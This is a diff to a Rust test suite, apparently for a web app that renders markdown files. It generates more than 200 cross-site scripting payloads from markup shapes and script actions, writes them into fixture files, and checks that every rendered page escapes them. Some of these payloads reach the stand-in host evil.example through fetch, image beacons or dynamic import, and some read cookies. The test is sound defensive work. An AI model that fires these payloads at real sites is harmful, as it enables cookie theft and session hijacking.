@@ -22,6 +22,50 @@ const PAYLOADS: [&str; 12] = [
     "<link rel=stylesheet href=//evil.example>",
 ];
 
+/// Shapes of markup, which run the text in place of `{}` if a page does not escape them.
+const SHAPES: [&str; 21] = [
+    "<script>{}</script>",
+    "</script><script>{}</script>",
+    "</style><script>{}</script>",
+    "</textarea><script>{}</script>",
+    "<img src=x onerror={}>",
+    "<img/src=x/onerror={}>",
+    "<svg onload={}>",
+    "<svg><script>{}</script></svg>",
+    "<body onload={}>",
+    "<iframe src=\"javascript:{}\"></iframe>",
+    "<details open ontoggle={}>x</details>",
+    "<input autofocus onfocus={}>",
+    "<video><source onerror={}></video>",
+    "<marquee onstart={}>x</marquee>",
+    "<object data=\"data:text/html,{}\"></object>",
+    "<math><mtext></mtext><script>{}</script></math>",
+    "<a href=\"javascript:{}\">x</a>",
+    "<audio src=x onerror={}></audio>",
+    "\"><b hx-on:load={}>",
+    "' onmouseover={} x='",
+    "<template><script>{}</script></template>",
+];
+/// Deeds of a script.
+const DEEDS: [&str; 10] = [
+    "alert(1)",
+    "fetch('//evil.example')",
+    "new Image().src='//evil.example'",
+    "location='//evil.example'",
+    "eval('1')",
+    "document.cookie",
+    "document.forms[0].submit()",
+    "import('//evil.example')",
+    "window.opener",
+    "htmx.ajax('POST','/pause')",
+];
+
+/// Returns every deed in every shape.
+fn payloads() -> Vec<String> {
+    let shaped = SHAPES.iter().flat_map(|shape| DEEDS.iter().map(|deed| shape.replace("{}", deed)));
+    shaped.collect()
+}
+
 /// Checks what a browser makes of a page.
 fn check(path: &str, body: &str, own: &[&str]) {
     let page = Html::parse_document(body);
@@ -73,9 +117,12 @@ fn hostile_project() -> Fixture {
     let fixture = Fixture::with(&jobs);
     for (number, payload) in PAYLOADS.iter().enumerate() {
         let name = payload.replace('/', "\u{2215}");
+        let more: Vec<String> =
+            payloads().into_iter().skip(number).step_by(PAYLOADS.len()).collect();
+        let more = more.join("\n");
         fixture.write(
             &format!("ideas/{name}.md"),
-            format!("# Idea {number} {payload}\n\n- Add it: {payload}\n"),
+            format!("# Idea {number} {payload}\n\n- Add it: {payload}\n{more}\n"),
         );
     }
     fixture
@@ -148,7 +195,9 @@ fn no_text_becomes_markup() {
             seen += 1;
         }
     }
-    for payload in PAYLOADS.iter().take(9) {
+    let all = payloads();
+    assert!(all.len() >= 200, "{}", all.len());
+    for payload in all.iter().map(String::as_str).chain(PAYLOADS) {
         let escaped = payload
             .replace('&', "&amp;")
             .replace('<', "&lt;")
